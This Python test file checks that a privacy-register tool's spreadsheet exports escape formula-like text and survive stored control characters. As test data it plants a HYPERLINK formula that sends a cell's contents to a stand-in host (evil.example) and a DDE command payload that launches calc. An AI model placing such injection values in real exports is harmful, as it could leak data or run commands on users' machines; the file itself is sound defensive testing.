"""Every spreadsheet export (RoPA XLSX/CSV, double list; API, web and CLI) is safe to open:
formula-looking text is neutralised and characters stored before validation existed do not
break the file (issue 18, items 3 and 4)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from urllib.parse import quote

from openpyxl import load_workbook
from sqlalchemy import text
from tests.api.helpers import Served
from typer.testing import CliRunner

from piplkit.faces.cli.app import app as cli

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ORG = "示例科技有限公司"


def _plant(api: Served) -> None:
    """An activity named like a formula, a purpose starting with '+', and a name holding a
    vertical tab and a NUL (or US) written straight into the database (as older versions
    allowed)."""
    r = api.client.post(
        "/api/v1/activities",
        headers=api.auth("editor"),
        json={
            "name": FORMULA,
            "organisation": ORG,
            "purpose": "+1+cmd|' /C calc'!A0",
            "legal_basis": "consent",
            "pi_categories": ["cn_mobile"],
            "datasets": ["members"],
        },
    )
    assert r.status_code == 201, r.text
    # PostgreSQL cannot store NUL at all; SQLite could, and older versions let it in
    last = "\x00" if api.reg.engine.dialect.name == "sqlite" else "\x1f"
    with api.reg.engine.begin() as conn:
        conn.execute(
            text("UPDATE processing_activity SET name = :bad WHERE name = :good"),
            {"bad": "会员\v管理" + last, "good": "会员管理"},
        )


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws for c in row]


def _check_xlsx(data: bytes) -> None:
    cells = _xlsx_cells(data)
    values = [v for v, _ in cells]
    assert "'" + FORMULA in values
    assert not [v for v, t in cells if isinstance(v, str) and v[:1] in "=+-@＝＋－＠"]
    assert all(t in ("s", "n") for v, t in cells if v is not None)


def test_ropa_xlsx_and_csv_over_the_api(api: Served) -> None:
    _plant(api)
    viewer = api.auth("viewer")
    r = api.client.get("/api/v1/ropa?format=xlsx", headers=viewer)
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)
    assert "会员\ufffd管理\ufffd" in [v for v, _ in _xlsx_cells(r.content)]
    r = api.client.get("/api/v1/ropa?format=csv&lang=en", headers=viewer)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = {row["Processing activity"]: row for row in rows}
    assert "'" + FORMULA in names and "会员\ufffd管理\ufffd" in names
    assert names["'" + FORMULA]["Purpose"] == "'+1+cmd|' /C calc'!A0"
    assert names["会员\ufffd管理\ufffd"]["Individuals"] == "120000"


def test_double_list_xlsx_over_the_api_and_web(api: Served) -> None:
    _plant(api)
    org = quote(ORG, safe="")
    r = api.client.get(
        f"/api/v1/double-list?organisation={org}&format=xlsx", headers=api.auth("viewer")
    )
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)
    api.sign_in("viewer")
    r = api.client.get(f"/double-list.xlsx?org={org}")
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)


def test_web_ropa_downloads(api: Served) -> None:
    _plant(api)
    api.sign_in("viewer")
    r = api.client.get("/export/ropa.xlsx")
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)
    r = api.client.get("/export/ropa.csv")
    assert r.status_code == 200
    assert "\"'=HYPERLINK(" in r.content.decode("utf-8-sig")


def test_cli_ropa_and_double_list(api: Served, tmp_path: Path) -> None:
    _plant(api)
    url = api.reg.engine.url.render_as_string(hide_password=False)
    runner = CliRunner()
    for args in (
        ["register", "ropa", str(tmp_path / "ropa.xlsx")],
        ["register", "double-list", str(tmp_path / "dl.xlsx"), "--organisation", ORG],
    ):
        result = runner.invoke(cli, [*args, "--db", url])
        assert result.exit_code == 0, result.output
    _check_xlsx((tmp_path / "ropa.xlsx").read_bytes())
    _check_xlsx((tmp_path / "dl.xlsx").read_bytes())
